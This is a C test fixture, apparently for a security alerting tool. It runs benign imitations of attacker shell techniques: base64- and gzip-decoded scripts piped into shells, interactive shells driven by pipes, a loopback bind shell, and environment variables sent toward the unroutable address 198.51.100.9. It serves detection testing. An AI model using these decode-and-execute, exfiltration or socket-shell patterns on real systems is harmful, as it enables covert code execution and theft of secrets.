// Executes a shell with a script of a table, named by the first argument, in the directory for
// files. `accepted` and `accepted-script` execute a shell on an accepted connection instead, and
// `connect` connects to an address that no network leads to.

#include "../alert-fixture.h"

#include <arpa/inet.h>
#include <sys/socket.h>

typedef struct {
  const char *way;
  const char *script;
} Script;

static const Script scripts[] = {
    {"decoded-base64", "echo Ogo= | base64 -d | sh"},
    {"decoded-long", "echo Ogo= | base64 --decode | bash -s"},
    {"decoded-gzip", "echo : | gzip | gunzip | sh -e"},
    {"decoded-option", "echo : | gzip | gzip -cd | sh"},
    {"decoded-fifo", "mkfifo fifo; (echo Ogo= | base64 -d > fifo) & sh < fifo; wait; rm fifo"},
    {"decoded-interpreter", "echo cGFzcwo= | base64 -d | perl -e 1; echo MTsK | base64 -d | perl"},
    {"piped-plain", "echo : | cat | sh"},
    {"piped-encoder", "echo : | base64 -w 0 | cat"},
    {"decoded-data", "echo : > script; echo Ogo= | base64 -d | sh ./script; rm script"},
    {"decoded-command", "echo Ogo= | base64 -d | sh -c 'cat > /dev/null'"},
    {"interactive-pipe", "echo exit | sh -i 2> /dev/null"},
    {"interactive-fifo", "mkfifo fifo; (echo exit > fifo) & HISTFILE= bash --norc -i < fifo 2> /dev/null; wait; rm fifo"},
    {"interactive-command", "echo | bash --norc -ic : 2> /dev/null"},
    {"plain-shell", "echo : | sh -e"},
    {"environment-sent", "env | gzip | \"$0\" connect"},
    {"environment-printed", "printenv -0 | cat | \"$0\" connect"},
    {"environment-kept", "env | gzip | cat > /dev/null"},
    {"data-sent", "echo | gzip | \"$0\" connect"},
};

// Executes a shell that reads its commands from a connection that another process made.
static void accept_shell(char *const *words) {
  int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  socklen_t size = sizeof address;
  if (bind(listener, (struct sockaddr *)&address, size) != 0 || listen(listener, 1) != 0) fail("listen");
  if (getsockname(listener, (struct sockaddr *)&address, &size) != 0) fail("getsockname");
  pid_t shell = fork();
  if (shell == 0) {
    int other = accept(listener, NULL, NULL);
    if (other < 0 || dup2(other, 0) < 0 || dup2(other, 1) < 0) fail("accept");
    close(other);
    execv("/bin/sh", words);
    fail("sh");
  }
  pid_t client = fork();
  if (client == 0) {
    int own = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (connect(own, (struct sockaddr *)&address, size) != 0) fail("connect");
    if (write(own, "exit\n", 5) != 5) fail("write");
    char byte;
    while (read(own, &byte, 1) > 0) continue;
    _exit(0);
  }
  close(listener);
  expect_success(shell);
  expect_success(client);
}

// Tries to connect to an address, in a network without any route.
static int try_to_connect(void) {
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(443)};
  inet_pton(AF_INET, "198.51.100.9", &address.sin_addr);
  int own = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  char buffer[4096];
  while (read(0, buffer, sizeof buffer) > 0) continue;
  return own >= 0 && connect(own, (struct sockaddr *)&address, sizeof address) != 0 ? 0 : 1;
}

int main(int argc, char **argv) {
  const char *way = argc > 1 ? argv[1] : "";
  if (strcmp(way, "connect") == 0) return try_to_connect();
  if (strstr(way, "sent") != NULL || strstr(way, "environment") != NULL) enter_namespaces(CLONE_NEWNET);
  if (chdir(below(argc, argv, "")) != 0) fail("chdir");
  if (strcmp(way, "accepted") == 0) {
    accept_shell((char *[]){"sh", NULL});
  } else if (strcmp(way, "accepted-script") == 0) {
    accept_shell((char *[]){"sh", "-c", "read line", NULL});
  } else {
    const char *script = NULL;
    for (size_t i = 0; i < sizeof scripts / sizeof *scripts; i++)
      if (strcmp(scripts[i].way, way) == 0) script = scripts[i].script;
    if (script == NULL) {
      fprintf(stderr, "usage: %s WAY [DIRECTORY]\n", argv[0]);
      return 64;
    }
    pid_t child = fork();
    if (child == 0) {
      execl("/bin/sh", "sh", "-euc", script, argv[0], (char *)NULL);
      fail("sh");
    }
    expect_success(child);
  }
  forget_directory(argc, argv);
  puts("ran a shell");
  return 0;
}
